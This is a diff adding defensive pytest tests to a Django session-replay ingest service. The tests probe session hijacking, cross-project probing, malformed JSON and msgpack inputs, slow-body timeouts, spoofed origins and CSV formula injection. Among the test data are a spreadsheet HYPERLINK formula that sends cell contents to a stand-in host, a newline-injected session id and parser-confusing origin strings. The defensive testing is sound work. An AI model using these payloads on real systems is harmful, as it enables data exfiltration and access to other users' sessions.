@@ -31,13 +31,6 @@ T0 = 1_736_155_800_000  # a plausible moment, in ms
 
 
 @pytest.fixture
-def bob(django_user_model: Any, bobs_blog: Any) -> Any:
-    user = django_user_model.objects.create_user("bob", password="bob-password-1")
-    bobs_blog.admins.add(user)
-    return user
-
-
-@pytest.fixture
 def server(start_daphne: Any) -> DaphneServer:
     server: DaphneServer = start_daphne(REPLAY_BODY_TIMEOUT="1", REPLAY_KEYFRAME_SECONDS="1")
     return server
@@ -230,4 +223,230 @@ def test_values_json_cannot_carry_are_refused_or_normalized_before_the_ack(
         while not Keyframe.objects.filter(session_id=session).exists():
             assert time.monotonic() < deadline, "no keyframe was written for the session"
             time.sleep(0.2)
+    innocent.assert_untouched(exported(server, bob, innocent.session))
+
+
+def attacker_hello(key: str, session: str, secret: str | None) -> bytes:
+    frame: dict[str, Any] = {
+        "type": "hello",
+        "key": key,
+        "session": session,
+        "tab": "attacker-tab",
+        "acked": 10_000,
+        "page": {"url": BOB + "/evil", "viewport": {"width": 1, "height": 1}},
+        "sdk": "attacker/1",
+        "user": "attacker",
+    }
+    if secret is not None:
+        frame["secret"] = secret
+    return pack(frame)
+
+
+def test_a_session_id_from_a_link_does_not_let_anyone_write_to_it(
+    server, alices_shop, bobs_blog, bob
+):
+    """The attacker has the project's public key (it is in every page), an allowed
+    origin, and the victim's session id (it is in every replayUrl() link)."""
+    injected = [event(T0 + 1, {"tag": "injected", "payload": {}})]
+    with Innocent(server.ws_url, bobs_blog.key, BOB) as victim:
+        row = Session.objects.values("user_id", "viewport_width", "tab").get(pk=victim.session)
+        for secret in ["", "a-guessed-secret", None]:  # none at all: an older recorder's hello
+            with connect(server.ws_url, origin=Origin(BOB)) as ws:
+                ws.send(attacker_hello(bobs_blog.key, victim.session, secret))
+                welcome = unpack(ws.recv(timeout=10))
+                # A session of its own, as for any id never seen: nothing of the victim's.
+                assert welcome["type"] == "welcome"
+                assert welcome["session"] != victim.session
+                assert welcome["acked"] == -1
+                ws.send(batch(0, injected))
+                assert unpack(ws.recv(timeout=10)) == {"type": "ack", "seq": 0}
+        # Over HTTP, a few batches ahead of the victim.
+        body = {
+            "key": bobs_blog.key,
+            "session": victim.session,
+            "tab": "attacker-tab",
+            "seq": len(victim.latencies) + 3,
+            "events": injected,
+        }
+        for claim in [{}, {"secret": ""}, {"secret": "a-guessed-secret"}]:
+            status, _, answer = post(server, json.dumps({**body, **claim}).encode(), origin=BOB)
+            assert status == 200
+            assert answer["session"] != victim.session
+    victim.assert_untouched(exported(server, bob, victim.session))  # not closed, not mixed
+    after = Session.objects.values("user_id", "viewport_width", "tab").get(pk=victim.session)
+    assert after == row
+
+
+def test_whether_a_session_exists_in_another_project_cannot_be_told(server, alices_shop, bobs_blog):
+    with Innocent(server.ws_url, bobs_blog.key, BOB) as victim:
+        answers = []
+        for session in [victim.session, "0123456789abcdef0123456789abcdef"]:
+            with connect(server.ws_url, origin=Origin(ALICE)) as ws:
+                ws.send(hello(alices_shop.key, session, secret=None))
+                answers.append(unpack(ws.recv(timeout=10)))
+        taken, unknown = answers
+        assert taken["session"] != victim.session
+        assert {k: v for k, v in taken.items() if k not in {"session", "secret"}} == {
+            k: v for k, v in unknown.items() if k not in {"session", "secret"}
+        }
+        assert set(taken) == set(unknown)
+
+
+def raw_http(server: DaphneServer, head: bytes, body: bytes = b"", wait: float = 10) -> bytes:
+    """Send a request as bytes on a plain socket; whatever the server answers."""
+    import socket
+
+    with socket.create_connection(("127.0.0.1", server.port), timeout=wait) as sock:
+        sock.sendall(head + body)
+        answer = b""
+        try:
+            while chunk := sock.recv(65536):
+                answer += chunk
+        except TimeoutError:
+            pass
+    return answer
+
+
+def test_every_http_batch_gets_an_answer(server, alice, alices_shop, bobs_blog, bob):
+    ok = {"key": alices_shop.key, "session": "new-session-1", "secret": "", "tab": "tab-00000001"}
+    deep = b'{"key": "%s", "events": ' % alices_shop.key.encode() + b"[" * 100_000
+    cases: dict[str, tuple[bytes, str, int]] = {
+        "NaN": (
+            json.dumps({**ok, "seq": 0, "events": [event(math.nan)]}).encode(),
+            "application/json",
+            400,
+        ),
+        "2^70": (
+            json.dumps({**ok, "seq": 0, "events": [event(2**70)]}).encode(),
+            "text/plain",
+            400,
+        ),
+        "1e999 as a timestamp": (
+            json.dumps({**ok, "seq": 0, "events": [event()]}).replace(str(T0), "1e999").encode(),
+            "text/plain",
+            400,
+        ),
+        "100,000-deep JSON": (deep + b"]" * 100_000 + b"}", "text/plain", 400),
+        "a lone surrogate in the key": (
+            json.dumps({**ok, "key": "pk_\ud800", "seq": 0, "events": []}).encode(),
+            "text/plain",
+            401,
+        ),
+        "a newline in the session id": (
+            json.dumps({**ok, "session": "abcdefgh\n", "seq": 0, "events": []}).encode(),
+            "text/plain",
+            400,
+        ),
+        "a uint64 timestamp in msgpack": (
+            msgpack.packb({**ok, "seq": 0, "events": [event(2**64 - 1)]}),
+            "application/msgpack",
+            400,
+        ),
+    }
+    with Innocent(server.ws_url, bobs_blog.key, BOB) as innocent:
+        for name, (body, content_type, expected) in cases.items():
+            status, _, answer = post(server, body, content_type)
+            assert status == expected, (name, answer)
+            assert answer["error"]["code"] in {4400, 4401}, name
+        # A body that never arrives whole: answered when REPLAY_BODY_TIMEOUT (1 s) ends.
+        started = time.monotonic()
+        head = (
+            b"POST /ingest/batch HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+            b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
+        )
+        answer = raw_http(server, head, b'{"key": ')
+        assert answer.startswith(b"HTTP/1.1 408 "), answer[:100]
+        assert b'"code": 4408' in answer
+        assert time.monotonic() - started < 5
+        # A broken JavaScript string (JSON.stringify writes its lone surrogate as an
+        # escape) and a number too large for a float are stored, normalized.
+        text = json.dumps({**ok, "seq": 0, "events": [event(T0, {"s": "\ud800", "n": 1.5})]})
+        status, _, answer = post(server, text.replace("1.5", "1e999").encode(), "text/plain")
+        assert status == 200
+    innocent.assert_untouched(exported(server, bob, innocent.session))
+    assert exported(server, alice, answer["session"]) == [event(T0, {"s": "\ufffd" * 3, "n": None})]
+
+
+def test_small_refusals_say_why_and_reveal_nothing(server, alices_shop, bobs_blog, bob):
+    with Innocent(server.ws_url, bobs_blog.key, BOB) as innocent:
+        # A viewport no screen has: 4400 with a reason, not 1011 and a traceback.
+        frame = unpack(hello(alices_shop.key))
+        frame["page"]["viewport"]["width"] = 2**64 - 1
+        with connect(server.ws_url, origin=Origin(ALICE)) as ws:
+            ws.send(pack(frame))
+            error = unpack(ws.recv(timeout=10))
+        assert (error["code"], "width" in error["reason"]) == (4400, True)
+        # Origins that name the shop only to a URL parser are no origins at all.
+        for origin in ["https://user@shop.alice.example", "https://evil.com\\@shop.alice.example"]:
+            with connect(server.ws_url, origin=Origin(origin)) as ws:
+                ws.send(hello(alices_shop.key))
+                error = unpack(ws.recv(timeout=10))
+            assert (error["code"], error["retry"]) == (4403, False), origin
+        # Over HTTP the same refusals say the same (retry: false), and only an allowed
+        # origin may read an answer.
+        body = {"key": alices_shop.key, "session": "new-session-1", "secret": "", "seq": 0}
+        body |= {"tab": "tab-00000001", "events": [event()]}
+        for origin, key, status in [
+            ("https://evil.example", alices_shop.key, 403),
+            ("https://user@shop.alice.example", alices_shop.key, 403),
+            (ALICE, "pk_unknown", 401),
+        ]:
+            code, headers, answer = post(
+                server, json.dumps({**body, "key": key}).encode(), origin=origin
+            )
+            assert (code, answer["error"]["retry"]) == (status, False)
+            assert "Access-Control-Allow-Origin" not in headers
+        code, headers, answer = post(server, json.dumps(body).encode())
+        assert code == 200
+        assert headers["Access-Control-Allow-Origin"] == ALICE
+    innocent.assert_untouched(exported(server, bob, innocent.session))
+
+
+def test_stored_timestamps_out_of_range_do_not_break_the_lists(server, alice, alices_shop, client):
+    """Sessions stored before ingest refused such timestamps still list and open."""
+    Session.objects.create(
+        pk="session-from-before-1",
+        project=alices_shop,
+        first_event_ms=-(2**63),
+        last_event_ms=2**63 - 1,
+        acked_seq=0,
+    )
+    status, body = get(server, "/api/sessions", alice)
+    assert status == 200
+    listed = strict_json(body)["sessions"][0]
+    assert (listed["id"], listed["started_at"], listed["ended_at"]) == (
+        "session-from-before-1",
+        None,
+        None,
+    )
+    assert get(server, "/api/sessions/session-from-before-1", alice)[0] == 200
+    client.force_login(alice)
+    assert client.get("/sessions").status_code == 200
+    assert client.get("/sessions/session-from-before-1").status_code == 200
+
+
+def test_recorded_text_is_not_a_formula_in_the_csv(server, alice, alices_shop, bobs_blog, bob):
+    from replay.records import track_session
+    from replay.storage import get_storage
+
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(1)"]
+    page = load_recording("checkout")[:4]
+    start = page[0]["timestamp"]
+    custom = [
+        event(start + 10 + i, {"tag": name, "payload": {}}) for i, name in enumerate(formulas)
+    ]
+    with Innocent(server.ws_url, bobs_blog.key, BOB) as innocent:
+        with connect(server.ws_url, origin=Origin(ALICE), max_size=None) as ws:
+            ws.send(hello(alices_shop.key))
+            session = unpack(ws.recv(timeout=10))["session"]
+            ws.send(batch(0, page + custom))
+            assert unpack(ws.recv(timeout=10)) == {"type": "ack", "seq": 0}
+        track_session(Session.objects.get(pk=session), get_storage())
+        status, body = get(server, "/api/events?kind=custom&format=csv", alice)
+    assert status == 200
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(body.decode())))
+    assert [row["name"] for row in rows] == ["'" + name for name in formulas]
     innocent.assert_untouched(exported(server, bob, innocent.session))
